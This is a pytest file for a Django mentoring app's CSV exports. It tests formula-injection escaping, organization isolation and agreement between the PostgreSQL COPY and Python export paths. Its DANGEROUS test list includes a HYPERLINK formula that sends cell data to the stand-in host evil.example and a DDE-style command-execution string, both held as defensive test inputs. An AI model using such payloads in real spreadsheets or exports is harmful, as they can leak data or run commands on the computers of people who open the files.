"""Export: streamed CSV with a BOM, filters as shown, formula-injection safe, own data only."""

import csv
import io
import random
import sys

import pytest
from django.urls import reverse
from django.utils import timezone

from pairing import csv_cells, export, export_answers, export_pg, health
from pairing.csv_cells import BOM, safe_cell
from pairing.models import MentorRequest, WaitlistEntry
from programs.models import Answer, Participant, Question, QuestionOption
from programs.questions import answer_questions, bump_questions_version
from tests import factories
from tests.support import schemes
from tests.support.builders import pair
from tests.support.marker import MARKER

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u00a0 @SUM(A1)",
    'Line one\n=HYPERLINK("x")',
    "ok\r\n  -1",
    "\x00abc",
]
SAFE = ["Ada", "12", "O'Brien", "a=b", "x@example.org", "multi\nline text", ""]


def _read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


@pytest.mark.parametrize("cell", DANGEROUS)
def test_dangerous_cells_get_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", SAFE)
def test_harmless_cells_are_left_alone(cell):
    assert safe_cell(cell) == cell


# PostgreSQL cannot store NUL in text, so that one is only checked cell by cell above.
STORABLE = [value for value in DANGEROUS if "\x00" not in value]


def test_injection_table_survives_a_round_trip_through_csv_reader(program, org_admin_client):
    for value in STORABLE:
        mentee = factories.ParticipantFactory(program=program, first_name=value, last_name="")
        pair(program, mentee=mentee)
    url = reverse("pairing:export_active", kwargs={"program_id": program.pk})
    rows = _read(org_admin_client.get(url + "?sort=mentee"))
    names = {row[0] for row in rows[1:]}
    assert len(names) == len(STORABLE)
    for value in STORABLE:
        assert "'" + value in names, repr(value)
    assert all(name.startswith("'") for name in names)


def test_active_export_has_header_filename_and_the_filters_shown(program, org_admin_client):
    program.name = "Spring Cohort 2026"
    program.save()
    quiet = pair(program, days_ago=40)
    quiet.mentee.first_name = "Quentin"
    quiet.mentee.save()
    pair(program, days_ago=2)
    url = reverse("pairing:export_active", kwargs={"program_id": program.pk})
    response = org_admin_client.get(url)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    day = timezone.localdate()
    assert (
        f'filename="spring-cohort-2026-active-pairings-{day:%Y-%m-%d}.csv"'
        in response["Content-Disposition"]
    )
    rows = _read(response)
    assert rows[0][:4] == ["Mentee", "Mentee email", "Mentor", "Mentor email"]
    assert len(rows) == 3
    rows = _read(org_admin_client.get(url + "?health=check_in"))
    assert len(rows) == 2 and rows[1][0].startswith("Quentin") and rows[1][8] == "Needs Check-in"
    rows = _read(org_admin_client.get(url + "?q=nobody-matches"))
    assert len(rows) == 1


def test_exports_never_contain_another_organizations_rows(program, org_admin_client, other_org):
    elsewhere = factories.ProgramFactory(organization=other_org)
    spy = factories.ParticipantFactory(program=elsewhere, first_name="Leak", last_name="Spy")
    mentor = factories.MentorFactory(program=elsewhere, first_name="Leak", last_name="Mentor")
    factories.PairingFactory(program=elsewhere, mentee=spy, mentor=mentor)
    lonely = factories.ParticipantFactory(program=elsewhere, first_name="Leak", last_name="Lone")
    MentorRequest.objects.create(
        program=elsewhere, mentee=lonely, mentor=mentor, expires_at=timezone.now()
    )
    pair(program)
    factories.ParticipantFactory(program=program, first_name="Own", last_name=MARKER)
    for name in ("export_active", "export_unpaired", "export_requests"):
        url = reverse(f"pairing:{name}", kwargs={"program_id": program.pk})
        body = b"".join(org_admin_client.get(url).streaming_content).decode()
        assert "Leak" not in body, name


def test_outsider_gets_404_for_exports(program, other_admin_client):
    pair(program)
    for name in ("export_active", "export_unpaired", "export_requests"):
        url = reverse(f"pairing:{name}", kwargs={"program_id": program.pk})
        assert other_admin_client.get(url).status_code == 404


def test_unpaired_export_lists_mentees_without_an_active_pairing(program, org_admin_client):
    paired = pair(program)
    waiting = factories.ParticipantFactory(program=program, first_name="Wanda")
    MentorRequest.objects.create(
        program=program, mentee=waiting, mentor=paired.mentor, expires_at=timezone.now()
    )
    factories.ParticipantFactory(program=program, first_name="Nadia")
    url = reverse("pairing:export_unpaired", kwargs={"program_id": program.pk})
    response = org_admin_client.get(url)
    assert "unpaired-mentees-" in response["Content-Disposition"]
    rows = _read(response)
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Wanda", "Nadia"}
    assert by_name["Nadia"][6] == "Not Invited by Admin"
    assert by_name["Wanda"][7] == paired.mentor.email


def test_requests_export_has_every_request_and_filters_by_status(program, org_admin_client):
    mentor = factories.MentorFactory(program=program)
    a = factories.ParticipantFactory(program=program, last_name="Quill")
    b = factories.ParticipantFactory(program=program)
    MentorRequest.objects.create(
        program=program, mentee=a, mentor=mentor, expires_at=timezone.now(), note="=1+1"
    )
    MentorRequest.objects.create(
        program=program, mentee=b, mentor=mentor, expires_at=timezone.now(),
        status="declined", decided_at=timezone.now(),
    )  # fmt: skip
    url = reverse("pairing:export_requests", kwargs={"program_id": program.pk})
    rows = _read(org_admin_client.get(url))
    assert len(rows) == 3
    assert "'=1+1" in [row[9] for row in rows[1:]]
    rows = _read(org_admin_client.get(url + "?status=declined"))
    assert len(rows) == 2 and rows[1][6] == "Declined"
    # The requests page's search applies too, and its link carries the filters.
    rows = _read(org_admin_client.get(url, {"q": a.last_name}))
    assert [row[2] for row in rows[1:]] == [a.email]
    page = org_admin_client.get(
        reverse("requests:list", kwargs={"program_id": program.pk}),
        {"q": a.last_name, "status": "pending"},
    ).content.decode()
    assert f'{url}?q={a.last_name}&amp;status=pending" download' in page


# --- One rule, two implementations: Python (safe_cell) and PostgreSQL (COPY) -----------

MORE_DANGEROUS = [
    "ok\u2028=1+1",  # a Unicode line separator starts a new line too
    "a\x0b@SUM(A1)",
    "name\n\tindented",
    "x\r\n\u3000+1",
    "\u2003-1",
]
MORE_SAFE = ["café", "Ünal-Smith", "a - b", "x\nmiddle = y", "\u00e9@x"]


def _reference(text: str) -> bool:
    """safe_cell's rule as the issue words it: splitlines() and lstrip() on each line."""
    if not text:
        return False
    if text[0] in "\t\r\0":
        return True
    for line in text.splitlines():
        stripped = line.lstrip()
        if line and (line[0] in "\t\r\0" or (stripped and stripped[0] in "=+-@")):
            return True
    return False


def _fuzz(count: int, *, nul: bool = True) -> list[str]:
    rng = random.Random(6)
    alphabet = "a1 =+-@\t\r\n\x0b\x1c\x1f\x85\xa0\u2028\u3000'\","
    alphabet += "\0" if nul else ""
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(count)]


@pytest.mark.parametrize("cell", MORE_DANGEROUS)
def test_more_dangerous_cells_get_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", MORE_SAFE)
def test_more_harmless_cells_are_left_alone(cell):
    assert safe_cell(cell) == cell


def test_the_character_classes_are_pythons_own():
    every = [chr(i) for i in range(sys.maxunicode + 1)]
    assert set(csv_cells.SPACES) == {c for c in every if c.isspace()}
    assert set(csv_cells.LINE_BREAKS) == {c for c in every if len(f"a{c}b".splitlines()) == 2}


def test_safe_cell_follows_the_worded_rule_on_random_cells():
    for text in [*DANGEROUS, *SAFE, *MORE_DANGEROUS, *MORE_SAFE, *_fuzz(20000)]:
        assert (safe_cell(text) != text) == _reference(text), repr(text)


@pytest.mark.needs_postgres
@pytest.mark.django_db
def test_postgresql_pattern_judges_every_cell_as_python_does():
    from django.db import connection

    cells = [*STORABLE, *SAFE, *MORE_DANGEROUS, *MORE_SAFE, *_fuzz(5000, nul=False)]
    with connection.cursor() as cursor:
        cursor.execute("SELECT x ~ %s FROM unnest(%s::text[]) AS x", [csv_cells.PG_DANGER, cells])
        judged = [row[0] for row in cursor.fetchall()]
    assert judged == [bool(csv_cells.DANGER.search(c)) for c in cells]


def _bytes(chunks) -> bytes:
    return b"".join(c if isinstance(c, bytes) else c.encode() for c in chunks)


def _parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode()[1:], newline="")))


def _answer_everything(program, cells: list[str]) -> None:
    """Answers of every kind on both sides, dangerous texts among them, written as rows
    (the checks of programs.questions would tidy some away): a single choice everyone
    is asked, a mentor's number, a mentee's long text, and the default multiple choices
    picked in an order other than the options' (the cell keeps the pick order)."""
    level = Question.objects.create(
        program=program, key="level", label="=Level", text="Your level?",
        audience=Question.Audience.EVERYONE, kind=Question.Kind.SINGLE, position=10,
    )  # fmt: skip
    years = Question.objects.create(
        program=program, key="years", label="Years", text="Years of experience?",
        audience=Question.Audience.MENTORS, kind=Question.Kind.NUMBER, position=11,
    )  # fmt: skip
    hope = Question.objects.create(
        program=program, key="hope", label="Hope", text="What do you hope for?",
        audience=Question.Audience.MENTEES, kind=Question.Kind.LONG_TEXT, position=12,
    )  # fmt: skip
    labels = list({c.casefold(): c for c in cells if c}.values())
    choices = {
        q: QuestionOption.objects.bulk_create(
            QuestionOption(question=q, label=label, position=n) for n, label in enumerate(labels)
        )
        for q in [level, *Question.objects.filter(program=program, key__in=["goals", "skills"])]
    }
    bump_questions_version(program)
    many = {
        Participant.Role.MENTOR: next(q for q in choices if q.key == "skills"),
        Participant.Role.MENTEE: next(q for q in choices if q.key == "goals"),
    }
    rows = []
    for i, person in enumerate(Participant.objects.filter(program=program).order_by("id")):
        values = []
        if i % 4:
            values.append((level, {"option": choices[level][i % len(labels)]}))
        picks = many[person.role]
        for n in (i % 5, (i + 3) % 5, 1)[: i % 4]:
            values.append((picks, {"option": choices[picks][(7 * i + n) % len(labels)]}))
        if person.role == Participant.Role.MENTOR and i % 3:
            values.append((years, {"number": i - 20}))
        elif person.role == Participant.Role.MENTEE and cells[i % len(cells)]:
            values.append((hope, {"text": cells[i % len(cells)]}))
        rows += [
            Answer(program=program, participant=person, question=q, **value) for q, value in values
        ]
    # The same option picked twice is one pick.
    Answer.objects.bulk_create(rows, ignore_conflicts=True)


@pytest.mark.needs_postgres
def test_postgresql_copy_exports_are_byte_for_byte_the_python_ones(program, monkeypatch):
    """The COPY path (PostgreSQL) and the csv-module path (SQLite) write the same file,
    answers included (read in blocks of 7 rows here, so several blocks)."""
    schemes.one_sided(program)
    monkeypatch.setattr(export_answers, "CHUNK", 7)
    program.organization.timezone = "America/New_York"
    program.organization.save()
    cells = [*STORABLE, *SAFE, *MORE_DANGEROUS, *MORE_SAFE, 'say "hi", then go', "trail "]
    for i, value in enumerate(cells):
        mentee = factories.ParticipantFactory(
            program=program, first_name=value or "x", last_name=cells[-1 - i],
            email=f"{value.strip()[:3].lower()}{i}@example.org", department=value, title=value,
        )  # fmt: skip
        mentor = factories.MentorFactory(program=program, first_name=f"M{i}", last_name=value)
        pairing = pair(program, mentee=mentee, mentor=mentor, days_ago=i * 7 % 60,
                       sessions=[i % 40] if i % 3 else [], origin=["request", "admin", "auto_pair"][i % 3])  # fmt: skip
        MentorRequest.objects.create(
            program=program, mentee=pairing.mentee, mentor=mentor, note=value,
            decline_message=cells[-1 - i], expires_at=timezone.now(), rank=1 + i % 3,
        )  # fmt: skip
        waiting = factories.ParticipantFactory(
            program=program, first_name=value or "w", location=value
        )
        if i % 2:
            MentorRequest.objects.create(
                program=program, mentee=waiting, mentor=mentor, expires_at=timezone.now()
            )
    _answer_everything(program, cells)
    assert Answer.objects.filter(program=program, number__lt=0).exists()
    now = timezone.now()
    active = export.active_header(program)
    assert active[9:] == [
        "Mentee: Goals", "Mentee: Interests", "Mentee: Department", "Mentee: Location",
        "Mentee: =Level", "Mentee: Hope", "Mentor: Skills", "Mentor: Interests",
        "Mentor: Department", "Mentor: Location", "Mentor: =Level", "Mentor: Years",
    ]  # fmt: skip
    for sort in health.SORTS:
        for direction in ("", "-"):
            for status in ("", *health.HEALTH_LABELS):
                filters = {"sort": direction + sort, "health": status, "now": now}
                fast = _bytes(export_pg.copy_stream(
                    active, *export_pg.active_copy_sql(program, **filters)))  # fmt: skip
                slow = _bytes(csv_cells.csv_stream(
                    active, export.active_rows(program, **filters)))  # fmt: skip
                assert fast == slow, filters
    for query in ("M1", "example.org m2", "nobody"):
        fast = _bytes(export_pg.copy_stream(
            active, *export_pg.active_copy_sql(program, query=query, now=now)))  # fmt: skip
        slow = _bytes(csv_cells.csv_stream(
            active, export.active_rows(program, query=query, now=now)))  # fmt: skip
        assert fast == slow, query
    unpaired = export.unpaired_header(program)
    fast = _bytes(export_pg.copy_stream(unpaired, *export_pg.unpaired_copy_sql(program)))
    assert fast == _bytes(csv_cells.csv_stream(unpaired, export.unpaired_rows(program)))
    assert fast.count(b"; ") > 10 and b",'-1" in _bytes(export.active_export(program))
    MentorRequest.objects.filter(note="+cmd").update(status="declined", decided_at=now)
    requests = export.request_header(program)
    for status in ("", "pending", "declined"):
        fast = _bytes(export_pg.copy_stream(
            requests, *export_pg.request_copy_sql(program, status=status)))  # fmt: skip
        slow = _bytes(csv_cells.csv_stream(
            requests, export.request_rows(program, status=status)))  # fmt: skip
        assert fast == slow, status
    assert len(_parse(fast)) == 1 + MentorRequest.objects.filter(status="declined").count()
    for query in ("M1", "example.org m2"):
        fast = _bytes(export_pg.copy_stream(
            requests, *export_pg.request_copy_sql(program, query=query)))  # fmt: skip
        slow = _bytes(csv_cells.csv_stream(
            requests, export.request_rows(program, query=query)))  # fmt: skip
        assert fast == slow and len(_parse(fast)) > 1, query


@pytest.mark.needs_postgres
def test_leaving_a_copy_export_early_leaves_the_connection_usable(program):
    from django.db import connection

    for _ in range(3):
        pair(program)
    stream = export_pg.copy_stream(export.ACTIVE_HEADER, *export_pg.active_copy_sql(program))
    assert next(stream).startswith(BOM.encode())
    next(stream)
    stream.close()
    with connection.cursor() as cursor:
        cursor.execute("SELECT 1")
        assert cursor.fetchone() == (1,)


@pytest.mark.needs_postgres
def test_a_zone_postgresql_does_not_know_takes_the_python_path(program, monkeypatch):
    from django.db import connection

    from programs.models import Organization

    monkeypatch.setattr(export_pg, "_ZONES_KNOWN_TO_DATABASE", {})
    assert export_pg.use_copy(program)
    Organization.objects.filter(pk=program.organization_id).update(timezone="Nowhere/Atlantis")
    program.organization.refresh_from_db()
    assert not export_pg.use_copy(program)
    # The failed probe left the surrounding transaction usable.
    with connection.cursor() as cursor:
        cursor.execute("SELECT 1")
        assert cursor.fetchone() == (1,)


@pytest.mark.needs_postgres
def test_copy_export_guards_a_later_cell_that_starts_with_cr(program):
    # The row's first cells are harmless; the mentor's name starts with CR.
    mentee = factories.ParticipantFactory(program=program, first_name="Ann", last_name="Lee")
    mentor = factories.MentorFactory(program=program, first_name="\rBob", last_name="Ray")
    pair(program, mentee=mentee, mentor=mentor)
    fast = _bytes(export_pg.copy_stream(export.ACTIVE_HEADER, *export_pg.active_copy_sql(program)))
    slow = _bytes(csv_cells.csv_stream(export.ACTIVE_HEADER, export.active_rows(program)))
    assert fast == slow
    assert '"\'\rBob Ray"' in fast.decode()


# --- A column per question of each side shown ------------------------------------------


@pytest.fixture
def answered(program):
    """Ada (mentee) paired with Max (mentor), Bo's request to Max waiting, Cy on the
    waitlist; a mentor's number question besides the default ones."""
    Question.objects.create(
        program=program, key="years", label="Years of experience", text="How many years?",
        audience=Question.Audience.MENTORS, kind=Question.Kind.NUMBER, position=20,
    )  # fmt: skip
    bump_questions_version(program)
    ada = factories.ParticipantFactory(
        program=program, first_name="Ada", department="Research", location="",
        goals=["Python", "Public speaking"], interests=["Data"],
    )  # fmt: skip
    max_ = factories.MentorFactory(program=program, first_name="Max", skills=["SQL", "Python"])
    answer_questions(participant=max_, raw={"years": "7"})
    pair(program, mentee=ada, mentor=max_)
    bo = factories.ParticipantFactory(program=program, first_name="Bo", goals=["=cmd"])
    MentorRequest.objects.create(program=program, mentee=bo, mentor=max_, expires_at=timezone.now())
    cy = factories.ParticipantFactory(program=program, first_name="Cy", interests=["Art"])
    WaitlistEntry.objects.create(program=program, mentee=cy, joined_at=timezone.now())
    return {"ada": ada, "max": max_, "bo": bo, "cy": cy}


MENTEE_COLUMNS = ["Mentee: Goals", "Mentee: Interests", "Mentee: Department", "Mentee: Location"]
MENTOR_COLUMNS = [
    "Mentor: Skills", "Mentor: Interests", "Mentor: Department", "Mentor: Location",
    "Mentor: Years of experience",
]  # fmt: skip


def _export(client, program, name) -> list[list[str]]:
    return _read(client.get(reverse(f"pairing:{name}", kwargs={"program_id": program.pk})))


@pytest.mark.parametrize("copy", [True, False], ids=["copy", "csv-module"])
def test_exports_end_with_each_sides_answers(
    program, org_admin_client, answered, copy, monkeypatch
):
    schemes.one_sided(program)
    if not copy:
        monkeypatch.setattr(export_pg, "use_copy", lambda program: False)
    rows = _export(org_admin_client, program, "export_active")
    assert rows[0] == [*export.ACTIVE_HEADER, *MENTEE_COLUMNS, *MENTOR_COLUMNS]
    # Choices in the order picked, "; " between them; numbers; the record's fields.
    assert rows[1][9:] == [
        "Python; Public speaking", "Data", "Research", "",
        "SQL; Python", "", "Engineering", "London", "7",
    ]  # fmt: skip
    rows = _export(org_admin_client, program, "export_requests")
    assert rows[0] == [*export.REQUEST_HEADER, *MENTEE_COLUMNS, *MENTOR_COLUMNS]
    # An answer is formula-safe like every other cell.
    assert rows[1][11:] == [
        "'=cmd", "", "Engineering", "London", "SQL; Python", "", "Engineering", "London", "7",
    ]  # fmt: skip
    # Department and Location are columns of the unpaired export already.
    rows = _export(org_admin_client, program, "export_unpaired")
    assert rows[0] == [*export.UNPAIRED_HEADER, "Mentee: Goals", "Mentee: Interests"]
    assert {row[0]: row[8:] for row in rows[1:]} == {"Bo": ["'=cmd", ""], "Cy": ["", "Art"]}
    rows = _export(org_admin_client, program, "export_waitlist")
    assert rows[0] == [*export.WAITLIST_HEADER, *MENTEE_COLUMNS]
    assert rows[1][1] == "Cy" and rows[1][7:] == ["", "Art", "Engineering", "London"]


def test_a_program_without_questions_exports_the_columns_it_had(org, org_admin_client):
    program = factories.ProgramFactory(organization=org, questions=False)
    pair(program)
    assert _export(org_admin_client, program, "export_active")[0] == export.ACTIVE_HEADER


def _more(program, count: int) -> None:
    """`count` more pairings, requests and waiting mentees, each person with answers."""
    for i in range(count):
        mentee = factories.ParticipantFactory(program=program, goals=["Python", f"G{i}"])
        mentor = factories.MentorFactory(program=program, skills=["SQL"], interests=[f"I{i}"])
        pair(program, mentee=mentee, mentor=mentor)
        waiting = factories.ParticipantFactory(program=program, interests=["Art"])
        MentorRequest.objects.create(
            program=program, mentee=waiting, mentor=mentor, expires_at=timezone.now()
        )
        WaitlistEntry.objects.create(program=program, mentee=waiting, joined_at=timezone.now())


# Queries each export makes, on the COPY path and the csv-module path, at any size: the
# program's questions and their options, then the COPY statement (which psycopg runs
# outside Django's cursor, so it is not counted here) or the rows' query and one query
# per block of rows for their answers. Active pairings read the health rules too; the
# waitlist (csv module everywhere) reads each block's named mentors.
EXPORT_QUERIES = [
    (export.active_export, 3, 5),
    (export.unpaired_export, 2, 4),
    (export.request_export, 2, 4),
    (export.waitlist_export, 5, 5),
]


@pytest.mark.parametrize("more", [0, 12])
@pytest.mark.parametrize("copy", [True, False], ids=["copy", "csv-module"])
def test_export_queries_do_not_grow_with_rows(
    program, answered, more, copy, monkeypatch, django_assert_num_queries
):
    _more(program, more)
    assert export_pg.use_copy(program)  # the zone checked once, before counting
    if not copy:
        monkeypatch.setattr(export_pg, "use_copy", lambda program: False)
    for make, on_copy, on_csv in EXPORT_QUERIES:
        fresh = type(program).objects.select_related("organization").get(pk=program.pk)
        with django_assert_num_queries(on_copy if copy else on_csv):
            body = _bytes(make(fresh))
        assert len(_parse(body)) > more + 1, make.__name__
